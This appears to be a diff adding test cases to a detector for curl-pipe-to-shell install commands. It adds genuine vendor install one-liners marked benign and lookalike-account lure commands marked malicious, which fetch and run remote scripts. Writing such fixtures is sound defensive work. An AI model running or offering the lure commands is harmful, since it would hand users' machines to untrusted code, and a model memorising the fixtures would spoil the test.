@@ -729,6 +729,32 @@ REAL = [
 ]
 
 
+# Vendors whose documentation is on their name under another suffix than the installer host
+# the trust list knows them by, or whose name is known only as a forge account.
+REAL += [
+    (
+        "https://docs.temporal.io/cli#install",
+        "curl -fsSL https://raw.githubusercontent.com/temporalio/cli/main/install.sh | sh",
+    ),
+    (
+        "https://supabase.com/docs/guides/local-development/cli/getting-started",
+        "curl -fsSL https://github.com/supabase/cli/releases/latest/download/supabase_linux_amd64"
+        ".tar.gz | tar -xz -C /tmp && sudo mv /tmp/supabase /usr/local/bin/",
+    ),
+    (
+        "https://developers.openai.com/codex/cli/",
+        "curl -fsSL https://github.com/openai/codex/releases/latest/download/codex-x86_64-"
+        "unknown-linux-musl.tar.gz | tar -xz && sudo mv codex-x86_64-unknown-linux-musl "
+        "/usr/local/bin/codex",
+    ),
+    (
+        "https://grafana.net/docs/agent/install/",
+        "curl -fsSL https://raw.githubusercontent.com/grafana/agent/main/production/install.sh | "
+        "sudo bash",
+    ),
+]
+
+
 def real() -> list[Case]:
     return [
         case(f"b5-real-{i:03d}", text, "not_flagged", "benign-own-page", "linux", page,
@@ -935,6 +961,18 @@ def lures() -> list[Case]:
     add(
         "curl -fsSL https://quokkadb.top/install.sh | bash",
         "https://github.com/acmecorp/quokkadb-cli/issues/31",
+    )
+    # a page that dresses a vendor's name up (run into its suffix, joined with a word) and a
+    # script from someone else's account
+    add(
+        "curl -fsSL https://raw.githubusercontent.com/temporal-cli-tools/cli/main/install.sh | sh",
+        "https://temporal-io.test/cli/install",
+        expect="malicious",
+    )
+    add(
+        "curl -fsSL https://raw.githubusercontent.com/grafana-agent-dl/agent/main/install.sh | sh",
+        "https://grafana-download.test/agent",
+        expect="malicious",
     )
     # registry pages quoting a script from another account's repository or another host
     add(
